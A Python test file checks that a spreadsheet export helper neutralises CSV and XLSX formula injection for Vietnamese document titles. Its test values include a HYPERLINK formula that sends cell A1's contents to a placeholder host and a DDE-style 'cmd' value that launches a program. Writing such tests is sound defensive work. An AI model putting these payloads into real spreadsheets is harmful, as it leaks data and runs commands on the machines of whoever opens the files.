"""CSV and XLSX cells that no spreadsheet program runs as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from services.runtime.tabular import append_xlsx_row, safe_cell, write_csv

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
FORMULA_LIKE = [HYPERLINK, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+2", "\r=1+2"]


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_formula_like_text_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Tuyên truyền phòng, chống ma túy", "", "a=b", " =1",
                                   "25/KH-STTTT", -12, -0.5, 0, 3.25, None])
def test_anything_else_is_unchanged(value):
    assert safe_cell(value) == value


def test_csv_neutralises_every_cell_and_keeps_numbers_and_quoting():
    text = write_csv([["title", "percent"], [HYPERLINK, -12.5], ["Đưa tin, bài", 40]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["title", "percent"], ["'" + HYPERLINK, "-12.5"],
                    ["Đưa tin, bài", "40"]]
    assert text.endswith("\r\n") and not text.startswith("\ufeff")
    assert write_csv([["x"]], bom=True) == "\ufeffx\r\n"


def test_xlsx_text_is_a_string_never_a_formula_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    append_xlsx_row(sheet, [HYPERLINK, "#N/A", -7, 2.5, None, "Kế hoạch\x01 25", "@x"])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row] == [HYPERLINK, "#N/A", -7, 2.5, None, "Kế hoạch 25", "@x"]
    assert [c.data_type for c in row] == ["s", "s", "n", "n", "n", "s", "s"]
    # Excel's own flag for text typed after a quote: an edited cell stays text.
    assert [c.quotePrefix for c in row] == [True, False, False, False, False, False, True]
